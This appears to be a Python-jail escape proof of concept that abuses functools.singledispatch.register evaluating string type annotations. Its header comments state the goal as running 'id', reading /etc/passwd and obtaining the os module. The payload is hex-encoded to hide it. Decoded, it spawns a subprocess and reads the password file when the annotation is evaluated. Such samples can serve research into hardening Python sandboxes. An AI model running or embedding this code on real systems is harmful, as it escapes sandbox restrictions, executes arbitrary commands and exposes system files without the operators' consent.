# source: Python docs functools.singledispatch register() reading annotations via typing.get_type_hints; PEP 563/ForwardRef eval (pyjail 'annotation eval' trick)
# family: singledispatch.register(X) where X's name is a class statement shadowed by a later binding (def/decorator/with/import) -> string annotation eval'd
# goal: eval of run-time string with builtins: runs id, reads /etc/passwd, gets os module
import functools

code = bytes.fromhex("696e74206966207072696e74285f5f696d706f72745f5f282773756270726f6365737327292e72756e285b276964275d2c636170747572655f6f75747075743d547275652c746578743d54727565292e7374646f75742c206f70656e28272f6574632f70617373776427292e7265616428295b3a3132305d2c205f5f696d706f72745f5f282773797327292e6d6f64756c65735b276f73275d2920656c736520696e74").decode()


@functools.singledispatch
def price(x):
    return x


class Handler:
    pass


def Handler(x: code):
    return x


price.register(Handler)
